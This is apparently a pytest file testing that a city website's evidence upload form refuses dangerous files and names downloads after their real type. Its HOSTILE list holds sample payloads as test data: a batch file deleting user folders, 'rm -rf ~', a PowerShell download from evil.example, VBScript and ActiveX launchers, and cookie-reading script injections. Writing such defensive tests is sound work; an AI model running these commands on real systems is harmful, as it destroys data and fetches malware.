"""Attack 11: a question that declares no file type took ``.bat`` and ``.hta`` files and a web
page behind a ``%PDF`` header, and staff downloaded them under the resident's chosen name. Such
questions still refuse web pages, SVG, scripts and programs, and every download is named after
the type its bytes show."""

from __future__ import annotations

import re

import pytest
from live_site import Live, make_dispatcher, sign_in
from resident import pdf_bytes, png_bytes

HOSTILE = [
    ("cleanup.bat", b"@echo off\r\ndel /q /s C:\\Users\\*\r\n"),
    ("update.cmd", b"@echo off\r\npowershell -enc AAAA\r\n"),
    ("invoice.hta", b'<HTA:APPLICATION ID="x" />\n<script language="VBScript">\n'
                    b'CreateObject("WScript.Shell").Run "calc"\n</script>\n'),
    ("report.pdf", b"%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body>"
                   b"</html>\n"),
    ("page.html", b"<!doctype html><script>alert(1)</script>"),
    ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    ("notes.txt", b"<script>alert(document.cookie)</script>\n"),
    ("setup.exe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00"),
    ("run.sh", b"#!/bin/sh\nrm -rf ~\n"),
    ("macro.js", b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');\n"),
    ("launch.vbs", b'CreateObject("WScript.Shell").Run "calc"\n'),
    ("tool.ps1", b"Invoke-WebRequest http://evil.example/x.exe -OutFile x.exe\n"),
]


def upload(live: Live, file_name: str, data: bytes):
    browser = live.browser()
    return browser, browser.submit_page("/forms/evidence/1", {"email": "ana@example.org"},
                                        files=[("document", file_name, data)])


@pytest.mark.parametrize("backend_db", ["sqlite"], indirect=True)
def test_a_question_without_a_type_still_refuses_dangerous_files(live: Live) -> None:
    taken = [name for name, data in HOSTILE if upload(live, name, data)[1].status != 400]
    assert taken == []
    _, plain = upload(live, "notes.txt", b"The hedge at number 9 blocks the pavement.\n")
    assert plain.status == 302


@pytest.mark.parametrize("backend_db", ["sqlite"], indirect=True)
@pytest.mark.parametrize(("file_name", "data", "extension"), [
    ("invoice.html", pdf_bytes(), ".pdf"),
    ("photo.exe", png_bytes(), ".png"),
    ("statement", pdf_bytes(), ".pdf"),
    ("letter.bat.txt", b"Dear clerk, thank you.\n", ".txt"),
])
def test_downloads_are_named_after_what_the_file_is(live: Live, file_name: str, data: bytes,
                                                    extension: str) -> None:
    resident, reply = upload(live, file_name, data)
    assert reply.status == 302, reply.text[:2000]
    page = resident.get("/forms/evidence/1")
    own = re.search(r"/forms/evidence/files/att_[A-Za-z0-9_-]+", page.text)
    assert own, page.text[:2000]
    names = [resident.get(own.group(0)).header("Content-Disposition") or ""]
    reference = resident.send("evidence").location.rsplit("/", 1)[-1]
    make_dispatcher(live, "clerk@city.gov")
    from staff import make_staff  # the evidence form has no routing: an admin reads it

    make_staff(live.db, "admin@city.gov", admin=True)
    staff = live.browser()
    assert sign_in(staff, "admin@city.gov").status == 302
    files = re.findall(rf"/staff/submissions/{reference}/files/att_[A-Za-z0-9_-]+",
                       staff.get(f"/staff/submissions/{reference}").text)
    assert files
    names.append(staff.get(files[0]).header("Content-Disposition") or "")
    for disposition in names:
        found = re.search(r"filename\*?=(?:UTF-8'')?\"?([^\";]+)", disposition)
        assert found and found.group(1).endswith(extension), disposition
